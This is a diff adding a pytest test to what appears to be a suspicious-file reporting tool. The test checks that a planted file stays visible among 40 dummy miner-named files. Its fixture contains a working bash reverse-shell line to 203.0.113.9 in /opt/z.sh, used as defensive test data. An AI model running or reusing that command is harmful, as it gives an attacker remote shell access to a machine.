@@ -176,6 +176,18 @@ def test_text_diffs_and_folded_counts(tmp_path: Path) -> None:
     assert "<td>logs</td><td>Logs</td><td>1</td>" in text
 
 
+def test_a_crowd_of_findings_buries_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither another rule's findings nor the text that they are about."""
+    monkeypatch.setattr(report, "ROWS_SHOWN", 12)
+    monkeypatch.setattr(report, "EACH_SHOWN", 2)
+    monkeypatch.setattr(report, "DIFFS_SHOWN", 12)
+    crowd = {f"/opt/xmrig{number:03}": b"#!/bin/sh\n" for number in range(40)}
+    side(tmp_path / "bundle", {}, {**crowd, "/opt/z.sh": b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/44 0>&1\n"})
+    text = harmless(report.write_report(tmp_path / "bundle", [], tmp_path / "page.html").path)
+    assert "<td>/opt/z.sh</td>" in text and "/opt/z.sh (+2 −0)" in text
+    assert "… and 38 more of miner-file" in text and "30 more" in text
+
+
 def test_what_the_comparison_could_not_look_at_is_told(tmp_path: Path) -> None:
     side(tmp_path / "bundle", {}, {"/opt/long": b"#!/bin/sh\n" + b"# pad" * 2_000_000})
     text = harmless(report.write_report(tmp_path / "bundle", [], tmp_path / "page.html").path)
